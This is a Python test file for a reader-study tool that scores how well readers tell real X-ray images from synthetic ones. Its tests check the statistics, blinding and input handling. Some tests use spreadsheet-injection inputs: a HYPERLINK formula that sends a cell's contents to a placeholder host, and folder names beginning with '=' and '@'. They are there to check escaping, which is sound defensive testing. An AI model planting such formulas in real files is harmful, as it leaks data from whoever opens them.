import csv

import pytest

from xrayforge.errors import UserError
from xrayforge.evaluate.reader_study import binomial_two_sided, fleiss_kappa, score


def write_csv(path, rows, fields):
    with open(path, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        w.writerows(rows)
    return path


@pytest.fixture
def study(tmp_path):
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "index.html").write_text("<html></html>")
    truth = {"a": "real", "b": "real", "c": "synthetic", "d": "synthetic"}
    (pack / "images").mkdir()
    for name in truth:
        (pack / "images" / name).write_bytes(b"")
    key = write_csv(tmp_path / "key.csv", [{"image": k, "truth": v} for k, v in truth.items()], ["image", "truth"])
    return pack, key


def test_hand_computed_scores(study, tmp_path):
    pack, key = study
    # reader 1: a real, b fake (wrong), c fake, d real (wrong) -> 2/4; sens 1/2, spec 1/2
    r1 = write_csv(tmp_path / "r1.csv", [{"reader": "r1", "image": i, "answer": a, "confidence": 3}
                                         for i, a in (("a", "real"), ("b", "synthetic"), ("c", "synthetic"),
                                                      ("d", "real"))], ["reader", "image", "answer", "confidence"])
    # reader 2: all correct
    r2 = write_csv(tmp_path / "r2.csv", [{"reader": "r2", "image": i, "answer": a, "confidence": 5}
                                         for i, a in (("a", "real"), ("b", "real"), ("c", "fake"), ("d", "synthetic"))],
                   ["reader", "image", "answer", "confidence"])
    res = score(pack, key, [r1, r2])
    assert res["readers"]["r1"]["accuracy"] == 0.5 and res["readers"]["r1"]["sensitivity_synthetic"] == 0.5
    assert res["readers"]["r1"]["specificity_synthetic"] == 0.5 and res["readers"]["r1"]["synthetic_called_real"] == 0.5
    assert res["readers"]["r2"]["accuracy"] == 1.0 and res["readers"]["r2"]["binomial_p"] == pytest.approx(0.125)
    assert res["pooled"]["accuracy"] == 0.75 and res["pooled"]["answers"] == 8
    # Fleiss: items a (0 fake, 2 real), b (1, 1), c (2, 0), d (1, 1) -> P_i = 1, 0, 1, 0; P_e = 0.5 -> kappa 0
    assert res["fleiss_kappa"] == pytest.approx(0.0) and res["kappa_images"] == 4


def test_binomial_and_kappa_by_hand():
    assert binomial_two_sided(4, 4) == pytest.approx(0.125)          # 2 × (1/16)
    assert binomial_two_sided(2, 4) == pytest.approx(1.0)
    assert binomial_two_sided(9, 10) == pytest.approx(22 / 1024)      # {0,1,9,10}
    assert fleiss_kappa([[3, 0], [0, 3], [3, 0]]) == pytest.approx(1.0)


def test_bad_inputs(study, tmp_path):
    pack, key = study
    unknown = write_csv(tmp_path / "x.csv", [{"reader": "r", "image": "zzz", "answer": "real"}],
                        ["reader", "image", "answer"])
    with pytest.raises(ValueError, match="x.csv, line 2: answer for an image that is not in the study: 'zzz'"):
        score(pack, key, [unknown])
    bad = write_csv(tmp_path / "y.csv", [{"reader": "r", "image": "a", "answer": "maybe"}], ["reader", "image", "answer"])
    with pytest.raises(ValueError, match="must be 'real' or 'synthetic'"):
        score(pack, key, [bad])
    with pytest.raises(FileNotFoundError, match="answer key not found"):
        score(pack, tmp_path / "missing_key.csv", [bad])
    with pytest.raises(FileNotFoundError, match="not a reader-study pack"):
        score(tmp_path, key, [bad])
    # the key of another pack: refused before any answer is scored against it
    other = write_csv(tmp_path / "other.key.csv", [{"image": k, "truth": "real"} for k in ("a", "b", "e")],
                      ["image", "truth"])
    with pytest.raises(ValueError, match=r"not the key of the pack .*\(1 of its 3 images are not in the pack, 2 of"):
        score(pack, other, [bad])


def test_make_a_blinded_pack(tmp_path):
    import numpy as np
    from PIL import Image

    from xrayforge.data.prepare import prepare
    from xrayforge.evaluate.reader_study import make
    prepare("phantom:10", tmp_path / "real", resolution=32, workers=1, progress=False)
    synth = tmp_path / "synth_src"
    synth.mkdir()
    for i in range(6):
        Image.fromarray(np.full((48, 40), 30 * i, dtype=np.uint8)).save(synth / f"generated_{i}.png")
    info = make(str(tmp_path / "real"), str(synth), 8, tmp_path / "pack", size=64, seed=1)
    images = sorted((tmp_path / "pack" / "images").iterdir())
    assert len(images) == 8 and all(Image.open(p).size == (64, 64) for p in images)
    with open(info["key"], newline="") as fh:
        key = list(csv.DictReader(fh))
    assert sorted(r["truth"] for r in key).count("synthetic") == 4
    # nothing inside the pack names a source or says which is which
    inside = (tmp_path / "pack" / "index.html").read_text() + " ".join(p.name for p in images)
    for row in key:
        assert "generated" not in inside and "phantom" not in inside and row["image"] in inside
    assert not any(p.name.endswith(".csv") for p in (tmp_path / "pack").rglob("*"))
    for p in images:  # re-encoded: no text chunks carried over
        assert not Image.open(p).info.get("parameters") and not getattr(Image.open(p), "text", {})
    with pytest.raises(ValueError, match="must not be inside the pack"):
        make(str(tmp_path / "real"), str(synth), 8, tmp_path / "pack2", key_path=tmp_path / "pack2" / "k.csv")
    with pytest.raises(ValueError, match="even number"):
        make(str(tmp_path / "real"), str(synth), 7, tmp_path / "pack3")


def test_binomial_two_sided_for_large_n():
    stats = pytest.importorskip("scipy.stats")
    for k, n in ((560, 1100), (2600, 5000), (50, 120)):  # past n ~ 1030 math.comb overflowed a float
        assert binomial_two_sided(k, n) == pytest.approx(stats.binomtest(k, n).pvalue, rel=1e-6)


def test_make_takes_a_sample_folders_images_and_refuses_a_run(tmp_path):
    """A sample folder's images are those its manifest lists (nothing else lying there); a training
    run's grids and curves are never put before readers."""
    import numpy as np
    from PIL import Image

    from xrayforge.data.prepare import prepare
    from xrayforge.evaluate.reader_study import make
    prepare("phantom:10", tmp_path / "real", resolution=32, workers=1, progress=False)
    synth = tmp_path / "samples"
    (synth / "shard-00000").mkdir(parents=True)
    rows = []
    for i in range(4):
        Image.fromarray(np.full((32, 32), 40 * i, dtype=np.uint8)).save(synth / "shard-00000" / f"{i:08d}.png")
        rows.append({"file": f"shard-00000/{i:08d}.png", "index": i, "target": ""})
    write_csv(synth / "manifest.csv", rows, ["file", "index", "target"])
    (synth / "sample_config.json").write_text("{}")
    Image.fromarray(np.zeros((64, 64), np.uint8)).save(synth / "grid.png")  # not a sample
    info = make(str(tmp_path / "real"), str(synth), 8, tmp_path / "pack", size=32, seed=0)
    with open(info["key"], newline="") as fh:
        sources = [r["source"] for r in csv.DictReader(fh) if r["truth"] == "synthetic"]
    assert sorted(sources) == sorted(str(synth / r["file"]) for r in rows)
    run = tmp_path / "run"
    (run / "checkpoints").mkdir(parents=True)
    (run / "grid-latest.png").write_bytes((synth / "grid.png").read_bytes())
    with pytest.raises(ValueError, match="a training run or checkpoint; sample images from it first"):
        make(str(tmp_path / "real"), str(run), 2, tmp_path / "pack2", size=32)


class _Killed(BaseException):
    """The process dies here."""


def test_make_stopped_part_way_is_made_again(tmp_path, monkeypatch):
    """A make killed while writing images, or between its key and its page, left a pack no reader can
    use: running it again removes what it left and makes the same pack; anything else stays refused."""
    import numpy as np
    from PIL import Image

    import xrayforge.evaluate.reader_study as rs
    from xrayforge.data.prepare import prepare
    prepare("phantom:10", tmp_path / "real", resolution=32, workers=1, progress=False)
    synth = tmp_path / "synth"
    synth.mkdir()
    for i in range(6):
        Image.fromarray(np.full((32, 32), 30 * i, dtype=np.uint8)).save(synth / f"g{i}.png")
    args = (str(tmp_path / "real"), str(synth), 8)
    rs.make(*args, tmp_path / "whole", size=32, seed=1)
    expected = (tmp_path / "whole.key.csv").read_text()
    pack = tmp_path / "pack"
    real_write, saved = rs.write_bytes_atomic, []

    def dies_on_the_fourth(path, data):
        saved.append(path)
        if len(saved) == 4:
            raise _Killed
        return real_write(path, data)
    monkeypatch.setattr(rs, "write_bytes_atomic", dies_on_the_fourth)
    with pytest.raises(_Killed):
        rs.make(*args, pack, size=32, seed=1)
    monkeypatch.undo()
    assert len(list((pack / "images").iterdir())) == 3 and not (tmp_path / "pack.key.csv").exists()
    rs.make(*args, pack, size=32, seed=1)
    assert (tmp_path / "pack.key.csv").read_text() == expected
    assert (pack / "index.html").read_text() == (tmp_path / "whole" / "index.html").read_text()
    assert not (pack / rs.UNFINISHED).exists()
    # a finished pack whose page went missing is not an unfinished one: its key stays
    (pack / "index.html").unlink()
    with pytest.raises(UserError, match="not empty"):
        rs.make(*args, pack, size=32, seed=1)
    assert (tmp_path / "pack.key.csv").read_text() == expected
    # stopped between the key and the page: the key of exactly those images goes with them, but only
    # once every input was read (a mistyped source removes nothing)
    (pack / rs.UNFINISHED).write_text("")
    with pytest.raises(FileNotFoundError):
        rs.make(str(tmp_path / "real"), str(tmp_path / "no-such"), 8, pack, size=32, seed=1)
    assert (tmp_path / "pack.key.csv").exists() and len(list((pack / "images").iterdir())) == 8
    rs.make(*args, pack, size=32, seed=1)
    assert (tmp_path / "pack.key.csv").read_text() == expected and (pack / "index.html").is_file()
    # a key of other images, or a file make does not write, is not touched
    (pack / "index.html").unlink()
    (pack / rs.UNFINISHED).write_text("")
    (tmp_path / "pack.key.csv").write_text("image,truth,source\nother.png,real,x\n")
    with pytest.raises(UserError, match="not empty"):
        rs.make(*args, pack, size=32, seed=1)
    (tmp_path / "pack.key.csv").unlink()
    (pack / "images" / "mine.png").write_bytes(b"x")
    with pytest.raises(UserError, match="not empty"):
        rs.make(*args, pack, size=32, seed=1)
    assert (pack / "images" / "mine.png").exists()


def _sources(tmp_path, synth_name="synth", value=30):
    import numpy as np
    from PIL import Image

    from xrayforge.data.prepare import prepare
    if not (tmp_path / "real").exists():
        prepare("phantom:10", tmp_path / "real", resolution=32, workers=1, progress=False)
    synth = tmp_path / synth_name
    synth.mkdir()
    for i in range(6):
        Image.fromarray(np.full((32, 32), value + 20 * i, dtype=np.uint8)).save(synth / f"g{i}.png")
    return str(tmp_path / "real"), str(synth)


def _page_names(pack):
    import json
    import re
    page = (pack / "index.html").read_text()
    names = json.loads(re.search(r"const IMAGES = (\[.*?\]);", page).group(1))
    return names, re.search(r"xrayforge-[0-9a-f]+", page)[0]


def test_order_and_names_are_not_the_seeds_alone(tmp_path):
    """From the seed alone (0 by default) and the folders' sizes a reader could replay the shuffle (the
    file names confirming the guess); and two packs of other images made alike shared names, order of
    truths and the page's saved answers, so one pack's key scored the other's answers."""
    import numpy as np

    from xrayforge.evaluate.reader_study import make
    real, synth_a = _sources(tmp_path, "a", 30)
    _, synth_b = _sources(tmp_path, "b", 35)
    make(real, synth_a, 8, tmp_path / "A", size=32, seed=0)
    make(real, synth_b, 8, tmp_path / "B", size=32, seed=0)
    names_a, id_a = _page_names(tmp_path / "A")
    names_b, id_b = _page_names(tmp_path / "B")
    assert not set(names_a) & set(names_b) and id_a != id_b
    rng = np.random.default_rng(0)  # the replay: make's draws, knowing only the seed and the sizes (10, 6)
    rng.permutation(10), rng.permutation(6)
    rng.shuffle(list(range(8)))
    assert [f"{rng.integers(0, 2 ** 63):016x}.png" for _ in range(8)] != names_a
    with pytest.raises(UserError, match="not the key of the pack"):
        score(tmp_path / "B", tmp_path / "A.key.csv", [])
    # still seeded: the same inputs and seed give the same pack, another seed another
    make(real, synth_a, 8, tmp_path / "A2", size=32, seed=0)
    make(real, synth_a, 8, tmp_path / "A3", size=32, seed=1)
    assert _page_names(tmp_path / "A2") == (names_a, id_a) and _page_names(tmp_path / "A3")[1] != id_a
    assert (tmp_path / "A2.key.csv").read_text() == (tmp_path / "A.key.csv").read_text()


def test_a_second_answer_for_an_image_is_refused(study, tmp_path):
    pack, key = study
    twice = write_csv(tmp_path / "t.csv", [{"reader": "r", "image": i, "answer": a}
                                           for i, a in (("a", "real"), ("c", "fake"), ("a", "synthetic"))],
                      ["reader", "image", "answer"])
    with pytest.raises(UserError, match=r"t.csv, line 4: a second answer for a \(the first is on line 2\)"):
        score(pack, key, [twice])


def test_a_file_managers_hidden_files_in_the_pack_are_not_images(study, tmp_path):
    pack, key = study
    (pack / "images" / ".DS_Store").write_bytes(b"\0")
    r = write_csv(tmp_path / "r.csv", [{"reader": "r", "image": "a", "answer": "real"}], ["reader", "image", "answer"])
    assert score(pack, key, [r])["readers"]["r"]["answers"] == 1


def test_out_dot_puts_the_key_beside_the_folder(tmp_path, monkeypatch):
    from xrayforge.evaluate.reader_study import make
    real, synth = _sources(tmp_path)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    info = make(real, synth, 4, ".", size=32)
    assert (tmp_path / "here" / "index.html").is_file() and (tmp_path / "here.key.csv").is_file()
    assert info["images"] == 4


def test_a_killed_writes_hidden_temporary_file_is_cleared_on_rerun(tmp_path):
    """atomic_write's temporary file (hidden, ``.<name>.<host>-<pid>-<tag>.tmp.png``) stays where a kill -9 stopped
    it: it is make's own, and the rerun makes the pack again."""
    import xrayforge.evaluate.reader_study as rs
    real, synth = _sources(tmp_path)
    pack = tmp_path / "pack"
    (pack / "images").mkdir(parents=True)
    (pack / rs.UNFINISHED).write_text("")
    (pack / "images" / "0123456789abcdef.png").write_bytes(b"x")
    (pack / "images" / ".89abcdef01234567.png.node7-4242-1a2b3c4d.tmp.png").write_bytes(b"x")
    rs.make(real, synth, 4, pack, size=32)
    assert (pack / "index.html").is_file() and len(list((pack / "images").iterdir())) == 4


# --------------------------------------------------------------------------- the label-permutation test
def _fake_pack(tmp_path, truths):
    """A pack (page and empty image files) and its key, for ``truths``: booleans, True synthetic."""
    pack = tmp_path / "pack"
    (pack / "images").mkdir(parents=True)
    (pack / "index.html").write_text("<html></html>")
    names = [f"{i:04d}.png" for i in range(len(truths))]
    for name in names:
        (pack / "images" / name).write_bytes(b"")
    key = write_csv(tmp_path / "key.csv", [{"image": n, "truth": "synthetic" if t else "real"}
                                           for n, t in zip(names, truths)], ["image", "truth"])
    return pack, key, names


def _answer_files(tmp_path, names, calls):
    """One answer file per reader; ``calls[r][i]``: True synthetic, False real, None unanswered."""
    files = []
    for r, row in enumerate(calls):
        files.append(write_csv(tmp_path / f"reader{r}.csv",
                               [{"reader": f"r{r}", "image": n, "answer": "synthetic" if c else "real", "confidence": ""}
                                for n, c in zip(names, row) if c is not None],
                               ["reader", "image", "answer", "confidence"]))
    return files


def test_the_pooled_permutation_test_holds_its_level_where_the_binomial_does_not():
    """Readers who cannot tell, but whose answers follow each image's latent "looks fake" (and their
    own bias): pooled over readers, the answers are far from independent. The pooled binomial p is
    below 0.05 in about a third of the trials; the label-permutation p in about 5% of them."""
    import numpy as np

    from xrayforge.evaluate.metrics import label_permutation_p
    n_images, n_readers, trials = 40, 8, 400
    truth = np.arange(n_images) < n_images // 2
    binomial, permutation = [], []
    for seed in range(trials):
        rng = np.random.default_rng(seed)
        looks_fake = 3.0 * rng.normal(size=n_images)  # independent of the truth: the null hypothesis
        bias = 0.5 * rng.normal(size=n_readers)
        calls = rng.random((n_images, n_readers)) < 1 / (1 + np.exp(-(looks_fake[:, None] + bias)))
        synthetic, real = calls.sum(1), n_readers - calls.sum(1)
        correct = int(np.where(truth, synthetic, real).sum())
        binomial.append(binomial_two_sided(correct, n_images * n_readers))
        permutation.append(label_permutation_p(truth, synthetic, real, rounds=999, seed=seed)[0])
    binomial_rate, permutation_rate = np.mean(np.array(binomial) < 0.05), np.mean(np.array(permutation) < 0.05)
    assert binomial_rate > 0.2, binomial_rate  # measured 0.325
    assert permutation_rate <= 0.075, permutation_rate  # measured 0.0425; 0.05 ± 0.011 (one s.e.) expected


def test_readers_who_can_tell_get_a_small_permutation_p(tmp_path):
    import numpy as np

    from xrayforge.evaluate.reader_study import format_markdown
    rng = np.random.default_rng(0)
    truth = rng.permutation(np.arange(60) < 30)
    pack, key, names = _fake_pack(tmp_path, truth)
    calls = [[bool(t) if rng.random() < 0.85 else not t for t in truth] for _ in range(3)]  # 85% right
    res = score(pack, key, _answer_files(tmp_path, names, calls))
    for r in list(res["readers"].values()) + [res["pooled"]]:
        assert r["accuracy"] > 0.7 and r["permutation_p"] < 0.001
    assert res["pooled"]["permutation_p"] == pytest.approx(1 / 10001)  # no permutation as far out
    assert res["permutations"] == 10000 and res["permutation_seed"] == 0
    table = format_markdown(res)
    assert "| p (binomial) | p (permutation) |" in table and "permutation p = 9.999e-05" in table
    # readers who cannot tell: large p; the same answers and seed, the same p-values
    guesses = [[bool(c) for c in rng.random(60) < 0.5] for _ in range(3)]
    again = [score(pack, key, _answer_files(tmp_path, names, guesses), permutations=2000, seed=5) for _ in range(2)]
    assert again[0] == again[1] and again[0]["permutations"] == 2000
    assert all(r["permutation_p"] > 0.01 for r in again[0]["readers"].values())


def test_the_permutation_p_matches_exact_enumeration_of_the_labels(tmp_path):
    """8 images, 4 synthetic: the 70 assignments of the labels are equally likely under the null; the exact
    two-sided p is the share of them whose accuracy lies as far from its mean as the observed one. One
    reader skips an image (their accuracy is over their 7 answers, the labels still permuted over 8)."""
    from itertools import combinations
    truth = [True, False, True, True, False, False, True, False]
    calls = [[True, False, True, False, False, True, True, False],    # 6 / 8
             [True, True, True, True, False, False, False, False],    # 6 / 8
             [True, False, None, True, False, False, True, True]]     # 6 / 7
    pack, key, names = _fake_pack(tmp_path, truth)
    res = score(pack, key, _answer_files(tmp_path, names, calls), permutations=40000, seed=3)

    def exact(rows):
        def correct(labels):
            return sum(c == labels[i] for row in rows for i, c in enumerate(row) if c is not None)
        assignments = [[i in chosen for i in range(8)] for chosen in combinations(range(8), 4)]
        mean = sum(correct(a) for a in assignments) / len(assignments)
        far = abs(correct(truth) - mean)
        return sum(abs(correct(a) - mean) >= far - 1e-9 for a in assignments) / len(assignments)
    expected = {f"r{r}": exact([calls[r]]) for r in range(3)}
    expected["pooled"] = exact(calls)
    assert len(set(expected.values())) > 1 and 0.01 < min(expected.values()) < max(expected.values()) < 1
    got = {name: r["permutation_p"] for name, r in res["readers"].items()} | {"pooled": res["pooled"]["permutation_p"]}
    for name, p in expected.items():  # Monte Carlo s.e. at most 0.0025
        assert got[name] == pytest.approx(p, abs=0.01), name


def test_a_result_saved_before_the_permutation_test_still_formats():
    from xrayforge.evaluate.reader_study import format_markdown
    rates = {"answers": 4, "accuracy": 0.5, "sensitivity_synthetic": 0.5, "specificity_synthetic": 0.5,
             "synthetic_called_real": 0.5, "binomial_p": 1.0}
    table = format_markdown({"readers": {"r": rates}, "pooled": rates, "images": 4, "fleiss_kappa": None})
    assert table.splitlines()[2].endswith("| 1 | n/a |") and "permutation p =" not in table


# --------------------------------------------------------------------------- confidence, image shape
def test_a_confidence_not_chosen_is_not_given(study, tmp_path):
    """The page exports an empty cell for a confidence the reader did not choose (it recorded 3, which
    passed for a choice); an empty cell, or no column, is None, never a number."""
    from xrayforge.evaluate.reader_study import read_answers
    pack, key = study
    f = write_csv(tmp_path / "c.csv", [{"reader": "r", "image": "a", "answer": "real", "confidence": "4"},
                                       {"reader": "r", "image": "b", "answer": "real", "confidence": ""},
                                       {"reader": "r", "image": "c", "answer": "fake", "confidence": " 2.0 "}],
                  ["reader", "image", "answer", "confidence"])
    truth = {"a": False, "b": False, "c": True, "d": True}
    assert [a["confidence"] for a in read_answers(f, truth)] == [4, None, 2]
    bare = write_csv(tmp_path / "bare.csv", [{"image": "a", "answer": "real"}], ["image", "answer"])
    assert read_answers(bare, truth)[0]["confidence"] is None
    assert score(pack, key, [f])["readers"]["r"]["answers"] == 3
    for bad in ("0", "6", "high", "3.5"):
        f = write_csv(tmp_path / "bad.csv", [{"reader": "r", "image": "a", "answer": "real", "confidence": bad}],
                      ["reader", "image", "answer", "confidence"])
        with pytest.raises(UserError, match=rf"bad.csv, line 2: confidence must be 1 to 5, .* got '{bad}'"):
            read_answers(f, truth)


def test_a_non_square_image_is_padded_not_stretched(tmp_path):
    """A stretched image's anatomy is distorted; padded (black, centred) it keeps its aspect ratio:
    a 2:1 frame stays 2:1 and a bright square in it stays a square, in the middle."""
    import numpy as np
    from PIL import Image

    from xrayforge.evaluate.reader_study import make
    real, _ = _sources(tmp_path)
    wide = tmp_path / "wide"
    wide.mkdir()
    for i in range(2):
        im = np.full((40, 80), 100, dtype=np.uint8)  # 40 high, 80 wide, grey
        im[10:30, 30:50] = 255                        # a 20 × 20 bright square in its middle
        Image.fromarray(im).save(wide / f"w{i}.png")
    info = make(real, str(wide), 4, tmp_path / "pack", size=40)
    with open(info["key"], newline="") as fh:
        written = [r["image"] for r in csv.DictReader(fh) if r["truth"] == "synthetic"]
    assert len(written) == 2
    for name in written:
        x = np.asarray(Image.open(tmp_path / "pack" / "images" / name)).astype(int)
        assert x.shape == (40, 40)

        def box(mask):
            rows, cols = np.flatnonzero(mask.any(1)), np.flatnonzero(mask.any(0))
            return rows[0], rows[-1] + 1, cols[0], cols[-1] + 1
        assert box(x > 50) == (10, 30, 0, 40)        # the frame: 20 high, 40 wide, centred; black above, below
        assert x[:10].max() == 0 and x[30:].max() == 0
        assert box(x > 200) == (15, 25, 15, 25)      # the square: 10 × 10, in the middle


def test_the_images_file_times_do_not_time_each_images_work(tmp_path, monkeypatch):
    """Each image's own times (made, modified) were when its resize and encoding ended: the gaps timed
    each image's work, which follows its source's size (seen: real 2048-px sources 168-436 ms apart,
    synthetic 1024-px ones 72-84 ms, every image told apart). Every image is now made before any file
    is written (a file's creation time cannot be set), and all carry one modification time."""
    import time

    import xrayforge.utils.images as images
    from xrayforge.evaluate.reader_study import make
    real, synth = _sources(tmp_path)
    encode, written_when_encoding = images.png_bytes, []

    def slow_encode(array):  # a step of work between images that the file system's clock sees
        folder = tmp_path / "pack" / "images"
        written_when_encoding.append(len(list(folder.iterdir())) if folder.is_dir() else 0)
        time.sleep(0.03)
        return encode(array)
    monkeypatch.setattr(images, "png_bytes", slow_encode)
    make(real, synth, 4, tmp_path / "pack", size=32)
    files = list((tmp_path / "pack" / "images").iterdir())
    assert len(files) == 4 and written_when_encoding == [0, 0, 0, 0]
    assert len({f.stat().st_mtime_ns for f in files}) == 1


def test_an_image_chosen_as_real_and_as_synthetic_is_refused(tmp_path):
    """A --synthetic folder that holds the --real one: its images were drawn as synthetic too, and the
    key called one image both real and synthetic (seen: up/realpng/r2.png twice in an 8-image pack)."""
    import numpy as np
    from PIL import Image

    from xrayforge.evaluate.reader_study import make
    for sub, offset, count in (("real", 0, 4), ("synth", 10, 2)):
        (tmp_path / "up" / sub).mkdir(parents=True)
        for i in range(count):
            pixels = np.random.default_rng(offset + i).integers(0, 255, (32, 32), dtype=np.uint8)
            Image.fromarray(pixels).save(tmp_path / "up" / sub / f"{sub}{i}.png")
    # all 4 real images are drawn as real, and 4 of the 6 under up/ as synthetic: 2 or more of them
    with pytest.raises(ValueError, match=r"real\d.png, chosen as (real|synthetic), is the same image as .*overlap"):
        make(str(tmp_path / "up" / "real"), str(tmp_path / "up"), 8, tmp_path / "pack", size=32)
    assert not (tmp_path / "pack").exists() and not (tmp_path / "pack.key.csv").exists()


def test_a_second_row_for_an_image_in_the_key_is_refused(study, tmp_path):
    """A key naming an image twice, as real and as synthetic, was read with the last row winning
    (seen: a reader right about all 8 images scored 0.875)."""
    pack, key = study
    with open(key, "a", newline="") as fh:
        fh.write("a,synthetic\n")
    answers = write_csv(tmp_path / "r.csv", [{"reader": "r", "image": "a", "answer": "real"}],
                        ["reader", "image", "answer"])
    with pytest.raises(ValueError, match=r"key.csv, line 6: a second row for a \(the first is on line 2\)"):
        score(pack, key, [answers])


def test_one_readers_page_exported_twice_is_not_two_readers(study, tmp_path):
    """With the name box empty, a partial and a full export (answers-reader.csv, answers-reader (1).csv)
    were scored as two readers (seen: 6 pooled answers from 4 given, kappa 1.0); the page's time
    stamps, to the millisecond, tell one reader's answers from two readers'."""
    pack, key = study
    fields = ["reader", "image", "answer", "confidence", "time"]
    rows = [{"reader": "", "image": i, "answer": a, "confidence": "", "time": f"2026-01-01T10:00:0{j}.123Z"}
            for j, (i, a) in enumerate((("a", "real"), ("b", "real"), ("c", "synthetic"), ("d", "real")))]
    first = write_csv(tmp_path / "answers-reader.csv", rows[:2], fields)
    full = write_csv(tmp_path / "answers-reader (1).csv", rows, fields)
    with pytest.raises(ValueError, match=r"answers-reader \(1\).csv: its answer for a was given at "
                                         r"2026-01-01T10:00:00.123Z, as was the one in .*answers-reader.csv: one "
                                         r"reader's answers exported twice"):
        score(pack, key, [first, full])
    other = write_csv(tmp_path / "other.csv", [{**r, "time": r["time"].replace("10:", "11:")} for r in rows], fields)
    assert score(pack, key, [full, other])["pooled"]["answers"] == 8  # two readers, alike but for when
    # a coarser time (whole seconds, a date: files made by hand) could be two readers' alike
    coarse = [write_csv(tmp_path / f"{n}.csv", [{**r, "reader": n, "time": "2026-01-01"} for r in rows], fields)
              for n in ("ann", "bob")]
    assert score(pack, key, coarse)["pooled"]["answers"] == 8


def test_images_enlarged_on_one_side_only_are_said(tmp_path, caplog):
    """Synthetic images of 16 px beside real ones of 32, shown at --size 32: only the synthetic ones
    are enlarged, and the blur tells them apart whatever the generator; said, with the size that
    enlarges none. Sides of one size enlarged alike are not a cue, and nothing is said."""
    import numpy as np
    from PIL import Image

    from xrayforge.evaluate.reader_study import make
    for sub, side in (("real", 32), ("synth", 16), ("synth32", 32)):
        (tmp_path / sub).mkdir()
        for i in range(2):
            pixels = np.random.default_rng(side + i + len(sub)).integers(0, 255, (side, side), dtype=np.uint8)
            Image.fromarray(pixels).save(tmp_path / sub / f"{sub}{i}.png")
    got = make(str(tmp_path / "real"), str(tmp_path / "synth"), 4, tmp_path / "a", size=32)
    (warning,) = got["warnings"]
    assert "0 of the 2 real images; 2 of the 2 synthetic images (16–16 px" in warning and "--size 16" in warning
    assert warning in caplog.text
    assert make(str(tmp_path / "real"), str(tmp_path / "synth32"), 4, tmp_path / "b", size=64)["warnings"] == []
    assert make(str(tmp_path / "real"), str(tmp_path / "synth"), 4, tmp_path / "c", size=16)["warnings"] == []
    assert make(str(tmp_path / "real"), str(tmp_path / "synth"), 4, tmp_path / "d", size=17)["warnings"] == []


def test_a_reader_name_with_a_bar_stays_in_its_cell(study, tmp_path):
    """A reader named "A|B" split the table row of the reader study (and of the report's page):
    every later number one column to the right, under another heading."""
    from xrayforge.evaluate.reader_study import format_markdown
    from xrayforge.evaluate.report import markdown_to_html
    pack, key = study
    rows = [{"reader": "A|B", "image": i, "answer": "real"} for i in "abcd"]
    result = score(pack, key, [write_csv(tmp_path / "ans.csv", rows, ["reader", "image", "answer"])])
    page = markdown_to_html(format_markdown(result), "t")
    first = page.split("<tr>")[2]  # the header, then the reader's row
    assert first.startswith("<td>A|B</td><td>4</td><td>0.500</td>"), first
    assert all(row.count("<td>") == 8 for row in page.split("<tr>")[2:4])


def test_images_a_reader_left_unanswered_are_counted_and_said(tmp_path):
    """A reader who stopped part-way showed only their answer count: nothing said how many of the pack's
    images they left out (not scored; the key is still permuted over all the images)."""
    from xrayforge.evaluate.reader_study import format_markdown
    truth = [True, False, True, False, True, False]
    pack, key, names = _fake_pack(tmp_path, truth)
    res = score(pack, key, _answer_files(tmp_path, names, [[True, False, None, None, None, None],
                                                           [True, False, True, False, True, False]]),
                permutations=200)
    assert res["readers"]["r0"]["unanswered"] == 4 and res["readers"]["r1"]["unanswered"] == 0
    assert res["readers"]["r0"]["answers"] == 2 and res["readers"]["r0"]["accuracy"] == 1.0
    assert "Not answered, so not scored: r0 4 of the 6 images." in format_markdown(res)
    assert "Not answered" not in format_markdown(score(pack, key, [_answer_files(tmp_path, names, [truth])[0]],
                                                       permutations=200))


def test_a_reader_name_that_is_a_formula_reads_back_as_given(study, tmp_path):
    """The page exports a name a spreadsheet would run as a formula ("=HYPERLINK(...)") with a "'" before
    it; scored, that "'" was part of the reader's name, and the same reader's file written by hand (no
    "'") was another reader."""
    from xrayforge.evaluate.reader_study import read_answers, read_key
    pack, key = study
    name = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    fields = ["reader", "image", "answer"]
    exported = write_csv(tmp_path / "exported.csv", [{"reader": "'" + name, "image": i, "answer": "real"}
                                                     for i in "abcd"], fields)
    assert {a["reader"] for a in read_answers(exported, read_key(key))} == {name}
    result = score(pack, key, [exported])
    assert list(result["readers"]) == [name]
    by_hand = write_csv(tmp_path / "by_hand.csv", [{"reader": name, "image": i, "answer": "real"} for i in "abcd"],
                        fields)
    with pytest.raises(ValueError, match="also answered in"):  # one reader, written either way
        score(pack, key, [exported, by_hand])
    plain = write_csv(tmp_path / "plain.csv", [{"reader": "O'Brien", "image": "a", "answer": "real"}], fields)
    assert list(score(pack, key, [plain])["readers"]) == ["O'Brien"]  # a "'" before no formula is the name's


def test_the_keys_sources_are_never_spreadsheet_formulas(tmp_path, monkeypatch):
    """The key's source column held the source paths as given: a folder (or file) named "=..." or "@..."
    was a formula to the spreadsheet the study's organiser opened the key in."""
    import numpy as np
    from PIL import Image

    from xrayforge.evaluate.reader_study import make, read_key
    monkeypatch.chdir(tmp_path)
    for sub in ("=1+1", "@SUM(1)"):
        (tmp_path / sub).mkdir()
        for i in range(2):
            Image.fromarray(np.full((16, 16), 40 * i + len(sub), dtype=np.uint8)).save(tmp_path / sub / f"-{i}.png")
    info = make("=1+1", "@SUM(1)", 4, tmp_path / "pack", size=16)
    with open(info["key"], newline="") as fh:
        sources = [row["source"] for row in csv.DictReader(fh)]
    assert sorted(sources) == sorted(f"'{d}/-{i}.png" for d in ("=1+1", "@SUM(1)") for i in range(2))
    assert len(read_key(info["key"])) == 4


def test_a_size_no_screen_shows_is_refused_before_any_image_is_made(tmp_path, monkeypatch):
    """--size 100000 resized each image to 40 GB of floats: the system killed the process, with no
    message and an unfinished pack left behind."""
    import numpy as np
    from PIL import Image

    import xrayforge.data.prepare
    from xrayforge.evaluate.reader_study import make

    def resized(*args, **kwargs):
        raise AssertionError("an image was resized")

    monkeypatch.setattr(xrayforge.data.prepare, "resize", resized)
    for side in ("real", "synth"):
        (tmp_path / side).mkdir()
        for i in range(2):
            Image.fromarray(np.full((16, 16), 40 * i + (side == "synth"), dtype=np.uint8)).save(
                tmp_path / side / f"{i}.png")
    with pytest.raises(UserError, match="--size must be 1 to 16384 px.*got 100000"):
